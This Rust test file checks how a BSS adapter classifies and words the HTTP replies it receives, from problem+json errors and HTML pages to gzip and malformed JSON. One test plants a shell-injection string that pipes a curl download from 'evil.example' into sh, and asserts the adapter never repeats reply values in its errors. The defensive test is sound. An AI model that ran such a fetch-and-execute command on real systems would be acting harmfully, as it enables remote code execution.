//! Replies as servers, proxies and frameworks send them: what can be understood is, and what cannot is
//! named for what it is, with none of its values.

use super::scripted::{Act, Scripted, json, reply};
use super::{TOKEN, adapter, settings};
use tenant_reseller_operator::bss::BssError;
use tenant_reseller_operator::bss::port::Bss;

const PROBLEM: &str = "Content-Type: application/problem+json\r\n";
const JSON: &str = "Content-Type: application/json; charset=UTF-8\r\n";

/// What the adapter makes of a reply to `getReseller`.
async fn of(bytes: Vec<u8>) -> BssError {
    let server = Scripted::start(vec![Act::Send(bytes)]).await;
    let bss = adapter(settings(&server.url, TOKEN));
    bss.get_reseller(&"R-1".into()).await.unwrap_err()
}

#[tokio::test]
async fn a_problem_counts_whatever_else_is_wrong_in_it() {
    let field = r#"{"field":"limit","detail":"is 7","allowed":null}"#;
    for body in [
        format!(r#"{{"class":"Invalid","status":"422","title":"t","fields":[{field}]}}"#),
        format!(r#"{{"class":"Invalid","status":422,"fields":[{field},null]}}"#),
        format!(
            r#"{{"type":null,"class":"Invalid","status":null,"title":null,"detail":null,"fields":[{field}],"blockers":null,"highestEpoch":null,"holder":null,"instruction":null}}"#
        ),
        format!(
            r#"{{"class":"Invalid","title":{{"en":"t"}},"detail":7,"fields":[{field}],"extra":[]}}"#
        ),
        format!("\u{feff}{{\"class\":\"Invalid\",\"fields\":[{field}]}}"),
    ] {
        for media in [PROBLEM, JSON, "Content-Type: application/vnd.acme+json\r\n"] {
            let error = of(reply(422, media, &body)).await;
            assert_eq!(error.to_string(), "invalid: limit: is 7", "{media} {body}");
        }
    }
    let blocked = r#"{"class":"Blocked","blockers":[{"reason":"NotCopied","count":null,"examples":["S-1",null]}]}"#;
    let error = of(reply(409, PROBLEM, blocked)).await;
    assert_eq!(error.to_string(), "blocked: NotCopied (1)");
    let gone = of(reply(404, PROBLEM, r#"{"class":"NotFound"}"#)).await;
    assert_eq!(gone.class(), "NotFound");
}

#[tokio::test]
async fn what_is_no_problem_is_named_with_what_it_is() {
    for (status, headers, body, expected) in [
        (
            409,
            PROBLEM,
            r#"{"title":"t","detail":"busy"}"#,
            "without a class of the contract: busy",
        ),
        (
            409,
            PROBLEM,
            r#"{"class":"Locked"}"#,
            "without a class of the contract",
        ),
        (409, PROBLEM, "[]", "a body that is no JSON object"),
        (
            404,
            "Content-Type: text/html\r\n",
            "<html>404</html>",
            "a page in HTML",
        ),
        (404, JSON, "<!doctype html>", "a page in HTML"),
        (404, "", "", "without a Content-Type"),
        (
            404,
            "Content-Type: text/plain\r\n",
            "Not Found",
            "has to be application/json",
        ),
    ] {
        let error = of(reply(status, headers, body)).await;
        assert_eq!(error.class(), "Malformed", "{body}");
        let said = error.to_string();
        assert!(said.contains(expected), "{said}");
        assert!(said.contains(&format!("status {status}")), "{said}");
    }
}

#[tokio::test]
async fn a_success_that_is_no_json_is_named_with_what_it_is() {
    let gzip = "Content-Type: application/json\r\nContent-Encoding: gzip\r\n";
    let login = "<html><form action=/login>";
    for (headers, body, expected) in [
        (
            "Content-Type: text/html; charset=utf-8\r\n",
            login,
            "a page in HTML",
        ),
        (JSON, login, "a page in HTML"),
        (JSON, "", "the body is empty"),
        (gzip, "\u{1f}\u{8b}", "the content coding gzip"),
        (
            JSON,
            r#"{"accountId": 7}"#,
            "the member accountId is not as the contract has it: expected a string",
        ),
        (JSON, r#"{"accountId": "#, "ends too early"),
        (
            "Content-Type: text/plain\r\n",
            "{}",
            "has to be application/json",
        ),
    ] {
        let said = of(reply(200, headers, body)).await.to_string();
        assert!(said.contains(expected), "{said}");
        assert!(!said.contains("expected value"), "{said}");
    }
}

/// A parser quotes what it could not read. Nothing of that reaches people.
#[tokio::test]
async fn no_value_of_a_reply_is_repeated() {
    let planted = "x; curl -s https://evil.example/x | sh";
    for body in [
        format!(r#"{{"accountId":"R-1","kind":"{planted}"}}"#),
        format!(r#"{{"accountId":["{planted}"]}}"#),
        format!(r#""{planted}""#),
        format!(r#"{{"{planted}":1}}"#),
        planted.to_owned(),
    ] {
        let said = of(json(&body)).await.to_string();
        assert!(!said.contains("evil.example"), "{said}");
    }
}

/// A mark at the beginning and a type with parameters are no reason to refuse a reply.
#[tokio::test]
async fn a_reply_with_a_byte_order_mark_and_another_json_type_is_read() {
    for media in [
        JSON,
        "Content-Type: text/json\r\n",
        "Content-Type: application/hal+json\r\n",
    ] {
        let body = "\u{feff} {\"identity\": \"acme\"}";
        let server = Scripted::start(vec![Act::Send(reply(200, media, body))]).await;
        let bss = adapter(settings(&server.url, TOKEN));
        assert_eq!(bss.get_identity().await.unwrap().as_deref(), Some("acme"));
        let asked = server.requests().remove(0).to_ascii_lowercase();
        assert!(asked.contains("accept-encoding: identity"), "{asked}");
    }
}
